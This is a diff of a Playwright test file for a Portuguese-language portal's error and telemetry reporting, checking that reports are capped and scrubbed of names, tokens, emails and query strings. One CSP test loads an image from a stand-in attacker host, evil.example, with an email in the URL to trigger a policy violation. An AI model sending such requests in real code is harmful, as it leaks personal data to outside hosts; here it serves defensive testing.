@@ -1,31 +1,40 @@
-import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
-import type { Browser } from 'playwright';
+import type { Page } from '@playwright/test';
 import { browserArgs } from '../../scripts/lib/browser.mjs';
 import { dist } from '../../scripts/lib/root.mjs';
 import { mockBackend } from '../../scripts/serve/mockBackend.ts';
 import { servePortal, type RunningPortal } from '../../scripts/serve/servePortal.ts';
-import { launchBrowser, openVisit } from '../support/browser.ts';
-import { enterAs } from '../support/people.ts';
+import { enterAs } from '../support/steps.ts';
+import { type Mock } from '../support/mock.ts';
+import { expect, test as portalTest } from '../support/fixtures.ts';
 
+/** The lines that the server writes for reports. */
 const lines: string[] = [];
-let portal: RunningPortal;
-let browser: Browser;
 
-beforeAll(async () => {
-  const write = (line: string) => void lines.push(line);
-  portal = await servePortal({ dist, backend: mockBackend(), port: 0, reports: { forwardTo: null, write } });
-  // Chromium keeps reports of violations for a minute, and sends none without its background calls.
-  const quiet = '--disable-background-networking';
-  browser = await launchBrowser({
-    args: [...browserArgs.filter((arg) => arg !== quiet), '--short-reporting-delay'],
-    ignoreDefaultArgs: [quiet],
-  });
+// Chromium keeps reports of violations for a minute, and sends none without its background calls.
+const quiet = '--disable-background-networking';
+
+/** A server of its own, whose lines the tests read. */
+const test = portalTest.extend<object, { portal: RunningPortal }>({
+  portal: [
+    async ({}, use) => {
+      const write = (line: string) => void lines.push(line);
+      const portal = await servePortal({ dist, backend: mockBackend(), port: 0, reports: { forwardTo: null, write } });
+      await use(portal);
+      await portal.close();
+    },
+    { scope: 'worker' },
+  ],
+  baseURL: async ({ portal }, use) => use(portal.address),
+  launchOptions: async ({ launchOptions }, use) =>
+    use({
+      ...launchOptions,
+      args: [...browserArgs.filter((arg) => arg !== quiet), '--short-reporting-delay'],
+      ignoreDefaultArgs: [quiet],
+    }),
 });
-beforeEach(() => void (lines.length = 0));
-afterAll(async () => {
-  await browser.close();
-  await portal.close();
-});
+
+test.describe.configure({ mode: 'default' });
+test.beforeEach(() => void (lines.length = 0));
 
 interface Report {
   kind: string;
@@ -41,17 +50,20 @@ function reports(): Report[] {
 }
 
 /** Opens a page as a member and waits until the module that sends reports has loaded. */
-async function openAs(path: string, expected: RegExp[] = []) {
-  const page = await openVisit(browser, { name: 'reporter', expected });
-  await enterAs(page, 'member', portal.address);
+async function openAsMember(page: Page, mock: Mock, path: string): Promise<void> {
+  await enterAs(page, 'member', mock);
   const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
-  await page.goto(portal.address + path);
+  await page.goto(path);
   await loaded;
-  return page;
 }
 
-test('errors are reported once each, ten of a page load at most, and name nobody', async () => {
-  const page = await openAs('/perfil', [/forjado/, /Uncaught/]);
+test('errors are reported once each, ten of a page load at most, and name nobody', async ({
+  page,
+  mock,
+  expectErrors,
+}) => {
+  expectErrors(/forjado|Uncaught/);
+  await openAsMember(page, mock, '/perfil');
   const name = (await page.getByRole('heading', { level: 1 }).innerText()).replace(/^Olá, /, '').replace(/!$/, '');
   const token = await page.evaluate(() => localStorage.getItem('token'));
   const hostile = `forjado ${name} ativa@exemplo.com.br ${token} 123.456.789-09 /curso/12?token=abc`;
@@ -64,7 +76,7 @@ test('errors are reported once each, ten of a page load at most, and name nobody
     for (let at = 0; at < 20; at += 1) void Promise.reject(new Error(`forjado ${'x'.repeat(at)}`));
   }, hostile);
   await expect.poll(() => reports().length).toBeGreaterThanOrEqual(7);
-  await page.goto(`${portal.address}/healthz`);
+  await page.goto('/healthz');
   await expect.poll(() => reports().some(({ kind }) => kind === 'vital')).toBe(true);
   await page.waitForTimeout(300);
   expect(reports().length).toBeLessThanOrEqual(10);
@@ -77,10 +89,13 @@ test('errors are reported once each, ten of a page load at most, and name nobody
     expect([secret, said.includes(secret)]).toEqual([secret, false]);
 });
 
-test('the paint, the shift and the answer to a click are reported by the pattern of the route', async () => {
-  const page = await openAs('/curso/1');
+test('the paint, the shift and the answer to a click are reported by the pattern of the route', async ({
+  page,
+  mock,
+}) => {
+  await openAsMember(page, mock, '/curso/1');
   await page.getByRole('heading', { name: 'Módulos' }).click();
-  await page.goto(`${portal.address}/healthz`);
+  await page.goto('/healthz');
   await expect.poll(() => reports().map(({ message }) => message)).toEqual(expect.arrayContaining(['LCP', 'CLS']));
   for (const { kind, route, value } of reports()) {
     expect([kind, route]).toEqual(['vital', '/curso/:cursoId']);
@@ -88,21 +103,25 @@ test('the paint, the shift and the answer to a click are reported by the pattern
   }
 });
 
-test('an answer that differs from the contract is reported without its content', async () => {
-  const page = await openVisit(browser, { name: 'drifter' });
-  await enterAs(page, 'member', portal.address);
+test('an answer that differs from the contract is reported without its content', async ({ page, mock }) => {
+  await enterAs(page, 'member', mock);
   await page.route('**/api/fundos', (route) =>
     route.fulfill({ json: { fundos: [{ id: 1, type: 'Raiz Secreta', amount: 'segredo' }] } }),
   );
-  await page.goto(`${portal.address}/perfil/fundos`);
+  await page.goto('/perfil/fundos');
   await expect.poll(() => reports().map(({ kind }) => kind)).toContain('drift');
   const [drift] = reports();
   expect(drift?.message).toContain('GET /fundos');
   expect(lines.join()).not.toMatch(/segredo|Secreta/);
 });
 
-test('a violation of the policy is reported by the browser, without the query', async () => {
-  const page = await openAs('/curso/1?token=abc', [/Content Security Policy/, /violates/]);
+test('a violation of the policy is reported by the browser, without the query', async ({
+  page,
+  mock,
+  expectErrors,
+}) => {
+  expectErrors(/Content Security Policy|violates/);
+  await openAsMember(page, mock, '/curso/1?token=abc');
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/x.png?who=ana@exemplo.com.br';
   });
@@ -112,15 +131,15 @@ test('a violation of the policy is reported by the browser, without the query', 
   expect(policy).not.toMatch(/token=|ana@|\/curso\/1\b/);
 });
 
-test('without a receiver the portal works, and nothing is sent again', async () => {
-  const page = await openVisit(browser, { name: 'nobody', expected: [/forjado/, /Failed to load resource/] });
+test('without a receiver the portal works, and nothing is sent again', async ({ page, expectErrors }) => {
+  expectErrors(/forjado|Failed to load resource/);
   let asked = 0;
   await page.route('**/reports', (route) => {
     asked += 1;
     return route.fulfill({ status: 502 });
   });
   const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
-  await page.goto(`${portal.address}/login`);
+  await page.goto('/login');
   await loaded;
   await page.evaluate(() => void Promise.reject(new Error('forjado')));
   await expect.poll(() => asked).toBe(1);
